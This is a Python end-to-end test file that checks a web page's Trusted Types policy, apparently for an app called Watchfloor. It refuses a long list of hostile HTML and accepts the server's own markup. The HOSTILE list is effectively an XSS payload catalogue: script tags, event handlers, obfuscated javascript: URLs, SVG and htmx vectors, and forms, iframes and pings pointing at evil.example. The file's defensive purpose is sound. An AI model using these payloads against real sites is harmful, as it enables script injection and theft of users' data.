"""The page's policy of Trusted Types lets through what our server writes, and nothing that could act."""

from collections.abc import Iterator
from html import escape

import pytest
from fixtures.browser import Watched, watched
from fixtures.desk import Desk
from fixtures.hostile import payloads
from fixtures.screens import screens
from playwright.sync_api import Browser

pytestmark = pytest.mark.end_to_end
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT src=//evil.example></SCRIPT>",
    '<script src="/static/x/main.js"></script>',
    "<svg><script>alert(1)</script></svg>",
    '<p onclick="alert(1)">x</p>',
    '<p OnClick="alert(1)">x</p>',
    "<p\nonclick='alert(1)'>x</p>",
    '<p/onclick="alert(1)">x</p>',
    '<p title="x"onclick="alert(1)">x</p>',
    "<p onclick=alert(1)>x</p>",
    "<p title=x>unquoted</p>",
    '<p title="<img src=x onerror=alert(1)>">x</p>',
    '<title><a title="</title><img src=x onerror=alert(1)>"></a></title>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></p></textarea>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6a;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="&#106avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="http:evil.example" target="frame">x</a>',
    '<a href="#" ping="https://evil.example">x</a>',
    '<a href="/x" download="x.exe">x</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,x#y"/></svg>',
    '<svg><use href="https://evil.example/x.svg#y"/></svg>',
    '<svg><image href="https://evil.example/x.png"/></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    '<svg><set attributeName="onclick" to="alert(1)"/></svg>',
    "<svg><foreignObject><p>x</p></foreignObject></svg>",
    "<svg><style>p{}</style></svg>",
    '<svg><path fill="url(https://evil.example/x)"/></svg>',
    '<svg onload="alert(1)"></svg>',
    '<svg xmlns="http://www.w3.org/1999/xhtml"></svg>',
    '<math><mtext href="javascript:alert(1)">x</mtext></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="x"></iframe>',
    '<object data="x"></object>',
    '<embed src="x">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="stylesheet" href="/static/x/page.css">',
    "<style>body{display:none}</style>",
    '<p style="background:url(https://evil.example)">x</p>',
    '<img src="https://evil.example/x.png">',
    '<img src="x" alt="x">',
    '<video src="x"></video>',
    '<audio src="x"></audio>',
    "<template><p>x</p></template>",
    "<hx-partial><p>x</p></hx-partial>",
    '<p hx-on:click="alert(1)">x</p>',
    '<p data-hx-on:click="alert(1)">x</p>',
    '<p data-hx-get="/x">x</p>',
    '<p hx-vals="js:{a:alert(1)}">x</p>',
    '<p hx-headers="js:{}">x</p>',
    '<p hx-confirm="js:alert(1)">x</p>',
    '<p hx-get="https://evil.example/x">x</p>',
    '<p hx-get="//evil.example/x">x</p>',
    '<p hx-get="js:alert(1)">x</p>',
    '<p hx-trigger="click[alert(1)]">x</p>',
    '<p hx-swap-oob="true">x</p>',
    '<form action="https://evil.example/"></form>',
    '<form action="//evil.example/"></form>',
    '<form action="/\\evil.example/"></form>',
    '<form action="javascript:alert(1)"></form>',
    '<button formaction="https://evil.example/">x</button>',
    '<input type="image" src="https://evil.example/x">',
    "<!-- a comment -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    "</ p>",
    "a < b",
    "<",
    "<p",
    '<p title="x>y</p>',
    "<p title='x>y</p>",
    '<p title="a" title="b" onclick="c">x</p>',
    '</p onclick="alert(1)">',
    '</p title="x">',
    "<plaintext>x",
    "<xmp><p>x</p></xmp>",
    "<noembed>x</noembed>",
    "<frameset></frameset>",
    "<marquee>x</marquee>",
    "<p\u00a0title='x'>x</p>",
    "<x-element>x</x-element>",
    '<a href="/x" class:inherited="y">x</a>',
    "<p is='x-y'>x</p>",
    "<slot>x</slot>",
    "<portal src='x'></portal>",
]
HARMLESS = [
    "",
    "words alone",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<p title="&lt;img src=x onerror=alert(1)&gt;">&#34;&#39;&amp;</p>',
    '<!doctype html>\n<html lang="en" dir="ltr">\n\n<body><main id="main">x</main></body></html>',
    "<head>\n<title>port &lt;b&gt; · Watchfloor</title></head>",
    '<a href="/search?q=a%3Ab&amp;sort=oldest">x</a>',
    '<a href="/search?q=javascript:alert(1)">x</a>',
    '<a href="#javascript:1">x</a>',
    '<a href="?q=a:b">x</a>',
    '<a href="https://tidewatch.example/a?b=c&amp;d=e#f" rel="noreferrer" target="_blank">x</a>',
    "<a href='/live'>x</a>",
    '<p lang="ar" dir="auto">ميناء \x00\x01\u202e > "quoted" \'single\' ` = /</p>',
    '<input type="search" name="q" value="&lt;/title&gt; url(x) javascript:" dir="auto" required>',
    '<svg viewBox="0 0 28 100" preserveAspectRatio="none" aria-hidden="true"><rect class="own" x="0.08" y="1" width=".84"/></svg>',
    '<svg><a href="/search?q=x" tabindex="-1"><circle cx="1" cy="2" r="3" fill="#fff"/></a></svg>',
    '<section hx-get="/frame/watch-line" hx-trigger="every 30s" hx-swap="outerMorph ignoreTitle:true"></section>',
    '<body hx-boost:inherited="true" hx-target:inherited="#main"></body>',
    '<form role="search" action="/search"><button type="submit" class="button main">Search</button></form>',
    "<details><summary>x</summary><br/><hr></details>",
    '<P CLASS="x">upper</P>',
    '<td data-first="2026-03-01" aria-label="x">y</td>',
]
REFUSAL = """async (markup) => {
  const main = document.querySelector('script[type=module]').src;
  const { refusal } = await import(main.replace('main.js', 'policy.js'));
  return refusal(markup);
}"""
SWAPPED = """async (address) => {
  const answer = await fetch(address, { headers: { 'HX-Request': 'true' } });
  return answer.text();
}"""
SINKS = {
    "inner": "(markup) => { document.body.innerHTML = markup; }",
    "inserted": "(markup) => { document.body.insertAdjacentHTML('beforeend', markup); }",
    "parsed": "(markup) => { new DOMParser().parseFromString(markup, 'text/html'); }",
    "framed": "(markup) => { document.createElement('iframe').srcdoc = markup; }",
    "script": "(markup) => { document.createElement('script').text = markup; }",
    "function": "() => { new Function('return 1'); }",
    "another policy": "() => { trustedTypes.createPolicy('default', { createHTML: (markup) => markup }); }",
    "the same policy": "() => { trustedTypes.createPolicy('watchfloor', { createHTML: (markup) => markup }); }",
}

ATTEMPT = """async (markup) => {
  await new Promise((go) => setTimeout(go));
  try { (SINK)(markup); return 'done'; } catch (error) { return error.name; }
}"""
"""After a turn of the page's own: what a test evaluates itself may run strings as code."""


@pytest.fixture(scope="module")
def page(browser: Browser, desk: Desk) -> Iterator[Watched]:
    with watched(browser, desk.address, quiet=False) as seen:
        seen.goto("/keys")
        yield seen


@pytest.mark.parametrize("markup", HOSTILE)
def test_what_could_act_is_refused(page: Watched, markup: str) -> None:
    assert page.page.evaluate(REFUSAL, markup) is not None


@pytest.mark.parametrize("markup", HARMLESS)
def test_what_our_server_writes_passes(page: Watched, markup: str) -> None:
    assert page.page.evaluate(REFUSAL, markup) is None


def test_payloads_pass_as_text(page: Watched) -> None:
    for payload in payloads():
        assert page.page.evaluate(REFUSAL, f'<p title="{escape(payload)}">{escape(payload)}</p>') is None, payload


def test_payloads_that_are_markup_and_would_act_are_refused(page: Watched) -> None:
    acting = [payload for payload in payloads() if "<" in payload and ("alert" in payload or "evil" in payload)]
    assert len(acting) > 40
    for payload in acting:
        assert page.page.evaluate(REFUSAL, f"<p>{payload}</p>") is not None, payload


@pytest.mark.parametrize("name", screens())
def test_every_screen_passes(page: Watched, name: str) -> None:
    text = page.page.evaluate(SWAPPED, screens()[name])
    assert page.page.evaluate(REFUSAL, text) is None


@pytest.mark.parametrize("sink", SINKS)
def test_no_other_way_leads_to_markup_or_code(page: Watched, sink: str) -> None:
    told = page.page.evaluate(ATTEMPT.replace("SINK", SINKS[sink]), "<b>x</b>")
    assert told in ("TypeError", "EvalError")
